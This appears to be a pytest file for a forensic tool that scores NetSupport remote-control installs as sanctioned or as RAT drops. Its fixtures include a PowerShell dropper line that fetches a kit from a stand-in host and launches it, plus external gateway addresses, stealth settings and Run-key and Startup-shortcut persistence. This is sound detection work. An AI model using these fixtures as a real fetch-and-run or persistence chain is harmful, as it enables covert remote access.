"""The correlator: binary identity, findings, verdicts, runs and times.

Table-driven: each case is a small system built from plaso's own event data
classes (tests/analysis_events.py), with the exact verdict, score, finding
codes and binary identities expected, and the events that must stay untagged.
"""

import pytest

from plaso_netsupport import knowledge as knowledge_module
from plaso_netsupport.analysis import gateways
from plaso_netsupport.analysis import model
from tests import analysis_events as ev

PF = "/Program Files (x86)/NetSupport/NetSupport School"
PF_KEY = "\\program files (x86)\\netsupport\\netsupport school"
DROP = "/ProgramData/SchCache"
DROP_KEY = "\\programdata\\schcache"
DOCS = "/Users/Bob/Documents/Tools"
DOCS_KEY = "\\users\\bob\\documents\\tools"
HKCU_RUN = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
CLIENT_VERSION = {
    "company_name": "NetSupport Ltd",
    "product_name": "NetSupport Remote Control",
    "file_description": "NetSupport Client Application",
    "original_filename": "client32.exe",
    "internal_name": "client32",
    "signer_common_name": "NetSupport Ltd",
    "signer_subject": "CN=NetSupport Ltd, O=NetSupport Ltd, C=GB",
}
STEALTH = {
    "silent": True,
    "systray_hidden": True,
    "show_ui_on_connect": False,
    "settings": ["Client\\silent=1", "Client\\SysTray=0", "Client\\ShowUIOnConnect=0"],
}


def _Kit(folder, *extra_files):
    """fs:stat of the kit's library files (created 2026, modified 2019)."""
    groups = []
    for name in (
        "PCICL32.DLL",
        "HTCTL32.DLL",
        "TCCTL32.DLL",
        "pcichek.dll",
    ) + extra_files:
        groups.append(
            ev.File(
                f"{folder}/{name}",
                created="2026-03-10 09:42:10",
                modified="2019-10-11 14:27:19",
            )
        )
    return groups


def _School():
    return _Kit(PF, "client32.exe", "runplugin.exe") + [
        ev.Config(
            f"C:\\{PF[1:]}/client32.ini".replace("/", "\\"),
            disabled_features=["DisableConfig", "DisableChat", "DisableRequestHelp"],
            gateway="10.20.0.5",
            gateway_port=443,
            settings=["Client\\DisableConfig=1", "Client\\DisableChat=1"],
        ),
        ev.VersionInfo(
            f"{PF}/runplugin.exe",
            company_name="NetSupport Ltd",
            original_filename="runplugin.exe",
            product_name="NetSupport School",
            signer_common_name="NetSupport Ltd",
        ),
        ev.VersionInfo(f"{PF}/client32.exe", **CLIENT_VERSION),
        ev.Service(
            "Client32",
            f'"C:\\{PF[1:]}\\client32.exe" /*'.replace("/", "\\"),
            display_name="NetSupport School Student",
        ),
        ev.EventLog(
            7035, "System", {"param1": "NetSupport Client", "param2": "start"},
            "2026-01-26 08:57:50",
        ),
    ]  # fmt: skip


def _RenamedBy(evidence):
    """A ProgramData kit whose renamed client has one kind of identity evidence."""
    binary = f"{DROP}/fontdrvhost.exe"
    windows_binary = f"C:{binary}".replace("/", "\\")
    groups = _Kit(DROP, "fontdrvhost.exe", "remcmdstub.exe") + [
        ev.Config(
            f"C:{DROP}/client32.ini".replace("/", "\\"),
            gateway="nohakob-cdn.icu",
            gateway_port=443,
        )
    ]
    if evidence == "pe_version_info":
        groups.append(ev.VersionInfo(binary, **CLIENT_VERSION))
    elif evidence == "imphash":
        groups.append(ev.PEFile(binary, "a9d50692e95b79723f3e76fcf70d023e"))
    elif evidence == "pe_import_pcicl32":
        groups.append(ev.DllImport(binary, "PCICL32.DLL"))
    elif evidence == "amcache":
        groups.append(
            ev.Amcache(
                windows_binary,
                company_name="NetSupport Ltd",
                file_description="NetSupport Client Application",
            )
        )
    elif evidence == "prefetch_pcicl32":
        groups.append(
            ev.Prefetch(
                "FONTDRVHOST.EXE",
                "\\PROGRAMDATA\\SCHCACHE\\FONTDRVHOST.EXE",
                ["\\VOLUME{1}\\PROGRAMDATA\\SCHCACHE\\PCICL32.DLL"],
                ["2026-03-10 09:43:31"],
            )
        )
    elif evidence == "starts_remcmdstub":
        groups.append(
            ev.Process(
                f"C:{DROP}/remcmdstub.exe".replace("/", "\\"),
                windows_binary,
                700,
                500,
                "2026-03-10 10:00:00",
            )
        )
    return groups


def _Installation(correlator, key):
    assert list(correlator.installations) == [key]
    return correlator.installations[key]


def _Binaries(installation):
    return {
        binary.name: (binary.identity, binary.identity_evidence)
        for binary in installation.binaries
    }


# (name, events, installation key, verdict, score, finding codes, binaries)
CASES = [
    (
        "sanctioned school: vendor file and admin locks are not RAT markers",
        _School,
        PF_KEY,
        "sanctioned",
        0,
        [
            "program_files_location",
            "runs_as_service",
            "admin_locks",
            "gateway_internal",
            "signed_by",
            "vendor_binary",
        ],
        {
            "client32.exe": ("client", ["pe_version_info"]),
            "runplugin.exe": ("vendor", ["pe_version_info_vendor"]),
        },
    ),
    (
        "unknown executable in a kit folder is unidentified, not the client",
        lambda: _Kit(DROP, "helper.exe")
        + [ev.Config(f"C:{DROP}/client32.ini".replace("/", "\\"))],
        DROP_KEY,
        "sanctioned",
        1,
        ["user_writable_location", "unidentified_binary"],
        {"helper.exe": ("unidentified", [])},
    ),
    (
        "name-only kit (parsers rejected both files) is weak",
        lambda: [
            ev.File(f"{DOCS}/client32.ini"),
            ev.File(f"{DOCS}/NSM.LIC"),
        ],
        DOCS_KEY,
        "weak",
        1,
        ["user_writable_location", "name_only"],
        {},
    ),
    (
        "a licence our parser read is more than a name",
        lambda: [
            ev.File(f"{DOCS}/client32.ini"),
            ev.File(f"{DOCS}/NSM.LIC"),
            ev.Licence(f"C:{DOCS}/NSM.LIC".replace("/", "\\"), "Example Corp", "NSM1"),
        ],
        DOCS_KEY,
        "sanctioned",
        1,
        ["user_writable_location"],
        {},
    ),
    (
        "RAT drop: stealth, external gateway, HKCU Run, campaign licence",
        lambda: _Kit(DROP, "client32.exe")
        + [
            ev.Config(
                f"C:{DROP}/client32.ini".replace("/", "\\"),
                gateway="45.88.78.28",
                gateway_port=443,
                disabled_features=["DisableChat"],
                **STEALTH,
            ),
            ev.Licence(f"C:{DROP}/NSM.LIC".replace("/", "\\"), "XMLCTL", "NSM303008"),
            ev.RunKey(
                HKCU_RUN, "SchCache", f"C:{DROP}/client32.exe".replace("/", "\\")
            ),
            ev.Process(
                f"C:{DROP}/client32.exe".replace("/", "\\"),
                "C:\\Windows\\System32\\wscript.exe",
                500,
                400,
                "2026-03-10 09:43:29",
            ),
        ],
        DROP_KEY,
        "suspicious",
        14,
        [
            "campaign_licence",
            "dropper_chain",
            "stealth_cluster",
            "user_writable_autostart",
            "gateway_external",
            "admin_locks",
        ],
        None,
    ),
    (
        "stealth alone on a program folder service install is a RAT marker",
        lambda: _School()
        + [ev.Config(f"C:{PF}/client32.ini".replace("/", "\\"), **STEALTH)],
        PF_KEY,
        "suspicious",
        3,
        None,
        None,
    ),
] + [
    (
        f"renamed client identified by {evidence}",
        lambda evidence=evidence: _RenamedBy(evidence),
        DROP_KEY,
        "suspicious",
        6,
        None,
        {
            "fontdrvhost.exe": ("renamed_client", [evidence]),
            "remcmdstub.exe": ("vendor", ["kit_file_name"]),
        },
    )
    for evidence in (
        "pe_version_info",
        "imphash",
        "pe_import_pcicl32",
        "amcache",
        "prefetch_pcicl32",
        "starts_remcmdstub",
    )
]


@pytest.mark.parametrize(
    "name,build,key,verdict,score,codes,binaries",
    CASES,
    ids=[case[0] for case in CASES],
)
def test_verdicts(name, build, key, verdict, score, codes, binaries):
    correlator, _ = ev.Analyse(*build())
    installation = _Installation(correlator, key)
    assert (installation.verdict, installation.score) == (verdict, score), [
        (finding.code, finding.weight) for finding in installation.findings
    ]
    if codes is not None:
        assert installation.FindingCodes() == codes
    if binaries is not None:
        assert _Binaries(installation) == binaries
    for finding in installation.findings:
        assert finding.text and "{" not in finding.text
        assert finding.weight == (
            knowledge_module.Load().data["verdict_reasons"][finding.code]["weight"]
        )


def test_school_evidence_and_labels():
    """Every school event tags without netsupport_suspicious; 7035 start is T1569."""
    correlator, evidence = ev.Analyse(*_School())
    installation = correlator.installations[PF_KEY]
    assert installation.folder_display == (
        "C:\\Program Files (x86)\\NetSupport\\NetSupport School"
    )
    controls = [kinds for item, _, kinds in evidence if item.role == "service_control"]
    assert controls == [["service_control"]]
    labels = knowledge_module.Load().LabelsFor("service_control")
    assert labels == ["attack_t1569", "attack_t1569_002"]
    assert installation.allowlist_entry is None
    assert installation.services == {"Client32"}


def test_script_named_files_only_in_kit_or_drop_locations():
    """explorer.exe that a dropper names is no kit file; the zip in Downloads is."""
    script = (
        "Start-BitsTransfer -Source https://x.example/a.zip -Destination "
        "$env:USERPROFILE\\Downloads\\SchCache.zip; Expand-Archive "
        "SchCache.zip C:\\ProgramData\\SchCache; Remove-Item SchCache.zip; "
        "Start-Process explorer.exe C:\\ProgramData\\SchCache\\client32.exe"
    )
    groups = _Kit(DROP, "client32.exe") + [
        ev.Config(f"C:{DROP}/client32.ini".replace("/", "\\")),
        ev.ScriptBlock(script, "2026-03-10 09:42:05"),
        ev.File("/Windows/explorer.exe"),
        ev.File("/Users/Bob/Downloads/SchCache.zip"),
        ev.File("/Windows/System32/SchCache.zip"),
    ]
    correlator, evidence = ev.Analyse(*groups)
    tagged = {item.path: kinds for item, _, kinds in evidence if item.role == "file"}
    assert "\\windows\\explorer.exe" not in tagged
    assert "\\windows\\system32\\schcache.zip" not in tagged
    assert tagged["\\users\\bob\\downloads\\schcache.zip"] == ["related_file"]
    scripts = [kinds for item, _, kinds in evidence if item.role == "script_block"]
    assert scripts == [["script_block", "file_deletion"]]
    installation = correlator.installations[DROP_KEY]
    assert "dropper_chain" in installation.FindingCodes()


def test_process_chain_ends_with_the_client():
    """A process whose creator id once was the client's is no NetSupport child."""
    client = f"C:{DROP}/client32.exe".replace("/", "\\")
    groups = _Kit(DROP, "client32.exe") + [
        ev.Config(f"C:{DROP}/client32.ini".replace("/", "\\")),
        ev.Process(
            client, "C:\\Windows\\explorer.exe", 500, 100, "2026-03-10 09:43:31"
        ),
        ev.Process(
            "C:\\Windows\\System32\\cmd.exe", client, 600, 500, "2026-03-10 09:44:00"
        ),
        ev.ProcessExit(client, 500, "2026-03-10 09:50:00"),
        ev.Process(
            "C:\\Users\\Bob\\AppData\\Local\\Temp\\setup.exe",
            "C:\\Windows\\System32\\svchost.exe",
            700,
            500,
            "2026-03-10 10:00:00",
        ),
    ]
    _, evidence = ev.Analyse(*groups)
    processes = {
        item.values["NewProcessName"]: kinds
        for item, _, kinds in evidence
        if item.role == "process"
    }
    assert processes == {
        client: ["execution"],
        "C:\\Windows\\System32\\cmd.exe": ["command_shell"],
    }


def test_executions_are_runs_and_preserved_times_are_separate():
    client = f"C:{DROP}/client32.exe".replace("/", "\\")
    groups = _Kit(DROP, "client32.exe") + [
        ev.Config(f"C:{DROP}/client32.ini".replace("/", "\\")),
        ev.Process(
            client, "C:\\Windows\\explorer.exe", 500, 100, "2026-03-10 09:43:29"
        ),
        ev.Prefetch(
            "CLIENT32.EXE",
            "\\PROGRAMDATA\\SCHCACHE\\CLIENT32.EXE",
            ["\\VOLUME{1}\\PROGRAMDATA\\SCHCACHE\\PCICL32.DLL"],
            ["2026-03-11 08:03:12", "2026-03-10 09:43:31"],
        ),
        ev.Process(
            client, "C:\\Windows\\explorer.exe", 900, 100, "2026-03-11 08:03:10"
        ),
        ev.PEFile(f"{DROP}/client32.exe", "0" * 32, time="2019-10-11 14:26:55"),
    ]
    correlator, _ = ev.Analyse(*groups)
    installation = correlator.installations[DROP_KEY]
    assert [
        (execution.timestamp, len(execution.items))
        for execution in installation.executions
    ] == [
        (ev.Timestamp("2026-03-10 09:43:29"), 2),
        (ev.Timestamp("2026-03-11 08:03:10"), 2),
    ]
    assert installation.activity_first == ev.Timestamp("2026-03-10 09:42:10")
    assert installation.activity_last == ev.Timestamp("2026-03-11 08:03:12")
    assert installation.preserved_first == ev.Timestamp("2019-10-11 14:26:55")
    assert installation.preserved_last == ev.Timestamp("2019-10-11 14:27:19")
    assert installation.folder_display == "C:\\ProgramData\\SchCache"
    assert [binary.path for binary in installation.binaries] == [
        "C:\\ProgramData\\SchCache\\client32.exe"
    ]


def test_no_installation_from_decoys():
    """TeamViewer, a lone NetSupport-like name and system files make nothing."""
    groups = [
        ev.File("/Program Files/TeamViewer/TeamViewer.exe"),
        ev.File("/Users/Bob/Downloads/clientsetup.exe"),
        ev.File("/Users/Bob/Downloads/client32.ini"),
        ev.DllImport("/Program Files/TeamViewer/TeamViewer.exe", "KERNEL32.dll"),
        ev.VersionInfo(
            "/Program Files/TeamViewer/TeamViewer.exe",
            company_name="TeamViewer Germany GmbH",
            original_filename="TeamViewer.exe",
        ),
        ev.ScriptBlock(
            "Invoke-WebRequest https://x.example/a.zip", "2026-03-10 09:00:00"
        ),
    ]
    correlator, evidence = ev.Analyse(*groups)
    assert correlator.installations == {}
    assert evidence == []


@pytest.mark.parametrize(
    "gateway,expected",
    [
        ("45.88.78.28:443", "external"),
        ("nohakob-cdn.icu:443", "external"),
        ("10.20.0.5:443", "internal"),
        ("192.168.1.10", "internal"),
        ("203.0.113.77:443", "external"),
        ("172.32.0.1", "external"),
        ("nsmgw:443", "internal"),
        ("nsm.corp.local:443", "internal"),
        ("geo.netsupportsoftware.com:443", "vendor"),
        ("[2a00:1450:4001::1]:443", "external"),
        ("", "internal"),
    ],
)
def test_gateway_classes(gateway, expected):
    classifier = gateways.GatewayClassifier(knowledge_module.Load())
    assert classifier.Classify(gateway) == expected


def test_model_legacy_views():
    installation = model.Installation("\\programdata\\x")
    installation.binaries = [
        model.Binary("C:\\ProgramData\\x\\a.exe", "a.exe", "renamed_client"),
        model.Binary("C:\\ProgramData\\x\\client32.exe", "client32.exe", "client"),
    ]
    assert installation.renamed_names == {"a.exe"}
    assert installation.client_names == {"client32.exe"}
    assert installation.name == "x"
    execution = model.Execution(5, [], "process x")
    assert tuple(execution) == (5, "process x")


STARTUP = "/Users/Bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"


def _Shortcut(location, target, arguments):
    groups = ev.Link(location, target)
    groups[0][1].command_line_arguments = arguments
    return groups


def test_startup_shortcut_proxied_through_explorer():
    """A Startup shortcut that starts the kit via explorer.exe is autostart and
    a proxy launch; a shortcut to cmd.exe with other arguments is nothing."""
    groups = _Kit(DROP, "client32.exe") + [
        ev.Config(f"C:{DROP}/client32.ini".replace("/", "\\")),
        _Shortcut(
            f"{STARTUP}/Teams Update.lnk",
            "C:\\Windows\\explorer.exe",
            "C:\\ProgramData\\SchCache\\client32.exe",
        ),
        _Shortcut(
            f"{STARTUP}/Backup.lnk",
            "C:\\Windows\\System32\\cmd.exe",
            '/c "C:\\Tools\\backup.bat"',
        ),
    ]
    correlator, evidence = ev.Analyse(*groups)
    shortcuts = {item.name: kinds for item, _, kinds in evidence if item.role == "lnk"}
    assert shortcuts == {"teams update.lnk": ["autostart"]}
    installation = correlator.installations[DROP_KEY]
    assert installation.FindingCodes()[:2] == [
        "dropper_chain",
        "user_writable_autostart",
    ]
    assert installation.verdict == "suspicious"
    assert installation.score == 6
    entry = installation.persistence_entries[0]
    assert entry["where"] == f"{STARTUP}/Teams Update.lnk".replace("/", "\\")
    assert entry["value"] == "C:\\ProgramData\\SchCache\\client32.exe"
